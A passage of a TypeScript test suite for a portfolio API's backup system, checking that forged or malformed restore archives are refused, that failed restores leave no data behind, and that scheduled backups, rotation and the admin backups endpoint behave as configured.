        'uploads/general/Evil Name.png is not a file the API stores (uploads are images or PDFs under a known folder, with names the server makes)',
      ],
    ];
    for (const [name, data, message] of cases) {
      const file = await forged(`upload-${cases.findIndex((c) => c[0] === name)}.tar.gz`, (entries) => entries.set(name, data));
      await refusedBeforeWriting(file, message);
    }
  });

  it('a restore that fails while loading (two rows with one id) leaves no table and no file behind', async () => {
    const png = await sharp({ create: { width: 4, height: 3, channels: 3, background: '#000' } })
      .png()
      .toBuffer();
    const file = await forged('duplicate.tar.gz', (entries, manifest) => {
      const lines = entries.get('data/books.jsonl')!.toString().trim().split('\n');
      entries.set('data/books.jsonl', Buffer.from([...lines, lines[0]].join('\n') + '\n'));
      manifest.tables.find((t) => t.name === 'books')!.rows++;
      entries.set('uploads/general/mf3k2a-0123456789abcdef-4x3.png', png);
    });
    assert.equal(verifyCommand(file).status, 0, 'the archive itself is well formed');
    const varDir = await tmp();
    if (TEST_DB === 'mysql') await emptyMysql();
    await assert.rejects(runRestore(targetConfig(varDir), file), /UNIQUE|Duplicate/i);
    if (TEST_DB === 'mysql') assert.deepEqual(await mysqlTables(), []);
    else assert.deepEqual(await readdir(path.join(varDir, 'data')).catch(() => []), [], 'no database file is left');
    assert.deepEqual(await readdir(path.join(varDir, 'uploads', 'general')).catch(() => []), [], 'no upload is left');
  });

  it('a gzip of something else is not a backup', async () => {
    const other = path.join(work, 'other.tar.gz');
    await packArchive(other, new Map([['notes.txt', Buffer.from('hello')]]));
    await assert.rejects(runRestore(targetConfig(await tmp()), other), /does not start with manifest\.json/);
    assert.ok(gunzipSync(await readFile(other)).length > 0);
  });
});

describe('scheduled backups and GET /api/admin/backups', () => {
  let api: Api;
  let token: string;
  let dir: string;
  before(async () => {
    dir = await tmp();
    api = await startApi({ BACKUP_EVERY: '1s', BACKUP_KEEP: '2', BACKUP_DIR: dir });
    token = await api.login();
  });
  after(async () => {
    await api.close();
    await rm(dir, { recursive: true, force: true });
  });

  it('is admin-only', async () => {
    const res = await api.request('GET', '/api/admin/backups');
    assert.equal(res.status, 401);
  });

  it('is in the OpenAPI document with its answer', async () => {
    const docs = await api.request('GET', '/api/docs-json');
    const get = docs.body.paths['/api/admin/backups'].get;
    assert.deepEqual(get.responses['200'].content['application/json'].schema.required, [
      'every',
      'keep',
      'nextRunAt',
      'lastRun',
      'lastSuccess',
    ]);
    assert.deepEqual(get.security, [{ bearer: [] }]);
  });

  it('makes a backup every BACKUP_EVERY and keeps BACKUP_KEEP of them', async () => {
    const events = api.app.get(BackupScheduler).events;
    const outcomes: RunOutcome[] = [];
    for (let i = 0; i < 3; i++) {
      const [outcome] = (await once(events, 'finished', { signal: AbortSignal.timeout(30_000) })) as [RunOutcome];
      assert.equal(outcome.ok, true, outcome.error ?? '');
      outcomes.push(outcome);
    }
    const files = (await readdir(dir)).filter((n) => n.endsWith('.tar.gz')).sort();
    assert.equal(files.length, 2);
    assert.equal(files[1], path.basename(outcomes[2].file!));
    const res = await api.request('GET', '/api/admin/backups', { token });
    assert.equal(res.status, 200);
    assert.equal(res.body.every, '1s');
    assert.equal(res.body.keep, 2);
    assert.ok(['succeeded', 'running'].includes(res.body.lastRun.result));
    assert.ok(res.body.lastSuccess.file.endsWith('.tar.gz'));
    assert.ok(res.body.lastSuccess.sizeBytes > 0);
    assert.ok(Date.parse(res.body.nextRunAt) > Date.parse(res.body.lastSuccess.finishedAt) - 1000);
  });

  it('shows a failed backup with its reason, and the last one that worked', async () => {
    const events = api.app.get(BackupScheduler).events;
    // A file where the backup folder should be: the next run cannot write.
    await rm(dir, { recursive: true, force: true });
    await writeFile(dir, 'not a folder');
    let outcome: RunOutcome;
    do [outcome] = (await once(events, 'finished', { signal: AbortSignal.timeout(30_000) })) as [RunOutcome];
    while (outcome.ok);
    assert.match(outcome.error!, /^(EEXIST|ENOTDIR)/);
    // Runs go on every second (and fail the same way): read the state between two of them.
    let res;
    do res = await api.request('GET', '/api/admin/backups', { token });
    while (res.body.lastRun.result === 'running');
    assert.equal(res.body.lastRun.result, 'failed');
    assert.equal(res.body.lastRun.trigger, 'scheduled');
    assert.match(res.body.lastRun.error, /^(EEXIST|ENOTDIR)/);
    assert.equal(res.body.lastRun.file, null);
    assert.ok(res.body.lastSuccess.file.endsWith('.tar.gz'), 'the last good backup is still named');
    await rm(dir, { force: true });
    await mkdir(dir);
  });
});

describe('the next scheduled backup (GET /api/admin/backups nextRunAt)', () => {
  it('is one interval after the first start, not postponed by a restart, and comes closer when BACKUP_EVERY shrinks', async () => {
    const hour = 3_600_000;
    const nextRunAt = async (api: Api) => {
      const token = await api.login();
      const deadline = Date.now() + 10_000;
      for (;;) {
        const res = await api.request('GET', '/api/admin/backups', { token });
        if (res.body.nextRunAt) return Date.parse(res.body.nextRunAt);
        if (Date.now() > deadline) throw new Error('no nextRunAt');
        await delay(20); // polling the answer, not waiting for readiness
      }
    };
    const first = await startApi({ BACKUP_EVERY: '24h' });
    const started = Date.now();
    const due = await nextRunAt(first);
    assert.ok(Math.abs(due - (started + 24 * hour)) < 60_000, 'one day after the first start');
    await first.close({ keepData: true });
    const longer = await startApi({ BACKUP_EVERY: '48h' }, { varDir: first.config.varDir, keepData: true });
    assert.equal(await nextRunAt(longer), due, 'a restart (even with a longer interval) does not postpone it');
    await longer.close({ keepData: true });
    const shorter = await startApi({ BACKUP_EVERY: '1h' }, { varDir: first.config.varDir, keepData: true });
    try {
      const sooner = await nextRunAt(shorter);
      assert.ok(sooner <= Date.now() + hour && sooner > Date.now() + hour - 60_000, 'at most one (new) interval away');
    } finally {
      await shorter.close();
    }
  });
});

describe('scheduled backups with two API processes on one database', () => {
  it('makes each due backup once (a lease row decides which process)', async () => {
    const dir = await tmp();
    const env = { BACKUP_EVERY: '1s', BACKUP_KEEP: '50', BACKUP_DIR: dir };
    const one = await startApi(env);
    const two = await startApi(env, { varDir: one.config.varDir, keepData: true });
    try {
      const outcomes: RunOutcome[] = [];
      const done = new Promise<void>((resolve) => {
        for (const api of [one, two]) {
          api.app.get(BackupScheduler).events.on('finished', (outcome: RunOutcome) => {
            outcomes.push(outcome);
            if (outcomes.length === 4) resolve();
          });
        }
      });
      await Promise.race([
        done,
        delay(30_000, undefined, { ref: false }).then(() => Promise.reject(new Error(`only ${outcomes.length} scheduled backups in 30 s`))),
      ]);
      assert.ok(outcomes.every((o) => o.ok));
      const starts = outcomes.map((o) => o.startedAt.getTime()).sort((a, b) => a - b);
      for (let i = 1; i < starts.length; i++)
        assert.ok(starts[i] - starts[i - 1] >= 900, `two runs for one due time: ${starts.join(', ')}`);
      assert.equal(new Set(outcomes.map((o) => o.file)).size, 4);
    } finally {
      await two.close({ keepData: true });
      await one.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});

describe('BACKUP_EVERY, BACKUP_KEEP, BACKUP_DIR', () => {
  it('default to a backup every 24 hours, 7 kept, in $VAR_DIR/backups', () => {
    const config = loadConfig({ VAR_DIR: '/srv/portfolio' });
    assert.deepEqual(config.backup, { dir: '/srv/portfolio/backups', every: '24h', everyMs: 86_400_000, keep: 7 });
  });

  it('take durations and off', () => {
    assert.equal(loadConfig({ BACKUP_EVERY: '6h' }).backup.everyMs, 21_600_000);
    assert.equal(loadConfig({ BACKUP_EVERY: '30m' }).backup.everyMs, 1_800_000);
    assert.deepEqual(loadConfig({ BACKUP_EVERY: 'off' }).backup.everyMs, null);
  });

  it('refuse a bad value with a sentence naming the variable', () => {
    assert.throws(
      () => loadConfig({ BACKUP_EVERY: 'daily', BACKUP_KEEP: '0' }),
      (error: Error) => {
        assert.match(error.message, /BACKUP_EVERY must be a duration such as 24h, 6h, 30m or 7d \(at most 366d\), or off \(got "daily"\)/);
        assert.match(error.message, /BACKUP_KEEP/);
        return true;
      },
    );
  });
});

describe('rotation', () => {
  it('keeps the newest BACKUP_KEEP archives of npm run backup', async () => {
    const source = await startApi({ BACKUP_EVERY: 'off' }, { databaseUrl: '' });
    const dir = await tmp();
    try {
      const config = { ...source.config, backup: { ...source.config.backup, dir, keep: 2 } };
      const times = ['2026-01-01T00:00:00Z', '2026-01-02T00:00:00Z', '2026-01-03T00:00:00Z', '2026-01-04T00:00:00Z'];
      let removed: string[] = [];
      for (const t of times) removed = (await runBackup(config, { now: () => new Date(t) })).removed;
      assert.deepEqual(removed, ['portfolio-backup-2026-01-02T00-00-00-000Z.tar.gz']);
      assert.deepEqual((await readdir(dir)).sort(), [
        'portfolio-backup-2026-01-03T00-00-00-000Z.tar.gz',
        'portfolio-backup-2026-01-04T00-00-00-000Z.tar.gz',
      ]);
    } finally {
      await source.close();
      await rm(dir, { recursive: true, force: true });
    }
  });
});
